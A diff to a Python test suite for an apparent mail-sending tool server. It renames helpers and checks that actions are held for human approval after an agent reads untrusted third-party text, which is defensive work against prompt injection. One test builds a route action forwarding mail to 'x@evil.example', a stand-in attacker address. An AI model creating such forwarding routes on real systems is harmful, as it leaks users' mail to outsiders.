@@ -20,7 +20,7 @@ from tests.support.arguments import minimal
 from tests.support.calls import LOCAL, run
 from tests.support.operations import catalogue, find
 from tests.support.policies import policy
-from tests.support.recorder import Clock, Recorder, recorded_app
+from tests.support.recorder import Clock, Recorder, recorded_services
 
 pytestmark = pytest.mark.anyio
 
@@ -52,14 +52,14 @@ def mailgun() -> Recorder:
 
 @pytest.fixture
 def services(mailgun: Recorder, clock: Clock, tmp_path: Path) -> Services:
-    return recorded_app(mailgun, state=tmp_path / "state", clock=clock)
+    return recorded_services(mailgun, state=tmp_path / "state", clock=clock)
 
 
 async def send(services: Services, *to: str, caller: Caller = LOCAL, **more: Any) -> CallResult:
     return await run(services, "send_message", mail(*to, **more), caller)
 
 
-def held(outcome: CallResult) -> bool:
+def is_pending(outcome: CallResult) -> bool:
     return outcome.kind == "refused" and outcome.text.startswith(HELD)
 
 
@@ -85,7 +85,7 @@ async def test_after_untrusted_text_what_could_do_harm_needs_a_yes(
     await run(services, "get_bounce", BOUNCE)
     mailgun.lines.clear()
     arguments = {**minimal(find(tool)), **({"action": ["forward('x@evil.example')"]} if tool == "create_route" else {})}
-    assert held(await run(services, tool, arguments))
+    assert is_pending(await run(services, tool, arguments))
     assert mailgun.changes == []
     assert "third-party text was shown in this session" in services.approvals.list(services.clock())[0].text
 
@@ -94,25 +94,25 @@ async def test_it_is_remembered_until_a_person_clears_it(services: Services, mai
     assert (await send(services, "ann@example.com")).kind == "done"
     await run(services, "get_bounce", BOUNCE)
     clock.now += 30 * DAY
-    assert held(await send(services, "ann@example.com"))
+    assert is_pending(await send(services, "ann@example.com"))
     assert Untrusted(services.store).clear() == ["local"]
     assert (await send(services, "ann@example.com")).kind == "done"
     await run(services, "get_bounce", BOUNCE)
-    assert held(await send(services, "ann@example.com"))
+    assert is_pending(await send(services, "ann@example.com"))
     assert mailgun.changes == [SEND, SEND]
 
 
 async def test_a_restarted_server_remembers_it_for_a_day(services: Services, clock: Clock) -> None:
     await run(services, "get_bounce", BOUNCE)
     clock.now += DAY
-    assert held(await send(replace(services), "ann@example.com"))
+    assert is_pending(await send(replace(services), "ann@example.com"))
     clock.now += 1
     assert (await send(replace(services), "ann@example.com")).kind == "done"
 
 
 async def test_each_caller_has_read_what_they_have_read(services: Services) -> None:
     await run(services, "get_bounce", BOUNCE, Caller(Principal("ann")))
-    assert held(await send(services, "x@example.com", caller=Caller(Principal("ann"))))
+    assert is_pending(await send(services, "x@example.com", caller=Caller(Principal("ann"))))
     assert (await send(services, "x@example.com", caller=Caller(Principal("ben")))).kind == "done"
 
 
@@ -120,7 +120,7 @@ async def test_another_process_of_the_caller_knows(services: Services) -> None:
     await run(services, "get_bounce", BOUNCE)
     other = replace(services)
     assert other.history is not services.history
-    assert held(await send(other, "x@example.com"))
+    assert is_pending(await send(other, "x@example.com"))
 
 
 async def test_reading_on_in_a_kept_result_is_reading(services: Services) -> None:
@@ -128,7 +128,7 @@ async def test_reading_on_in_a_kept_result_is_reading(services: Services) -> Non
         "⟦abcd1234 third party⟧ somebody wrote it ⟦abcd1234⟧", boundary="abcd1234", owner=LOCAL.principal.id
     )
     await run(services, "read_result", {"result": name})
-    assert held(await send(services, "x@example.com"))
+    assert is_pending(await send(services, "x@example.com"))
 
 
 async def test_a_result_without_such_text_changes_nothing(services: Services, mailgun: Recorder) -> None:
@@ -218,7 +218,7 @@ async def test_the_same_message_again_is_asked_about(services: Services, mailgun
     services = replace(services, policy=WINDOW)
     assert (await send(services, "ann@example.com")).kind == "done"
     clock.now += 60
-    assert held(await send(services, "ann@example.com"))
+    assert is_pending(await send(services, "ann@example.com"))
     assert asked_because(services) == "Asked because the same message was sent 60 seconds ago (send/duplicate_window)."
     assert (await send(services, "ann@example.com", subject="Another")).kind == "done"
     clock.now += 10 * MINUTE
@@ -273,7 +273,7 @@ async def test_a_send_to_a_list_is_a_send_to_its_members(
     given = mail(*to) if place == "to" else mail("few@mg.example.com" if to != people_(10) else to[0], **{place: to})
     expected = asked
     outcome = await run(services, "send_message", given)
-    assert (held(outcome), mailgun.changes) == (expected, [] if expected else [SEND])
+    assert (is_pending(outcome), mailgun.changes) == (expected, [] if expected else [SEND])
 
 
 async def test_the_lists_are_read_for_every_send(services: Services, mailgun: Recorder) -> None:
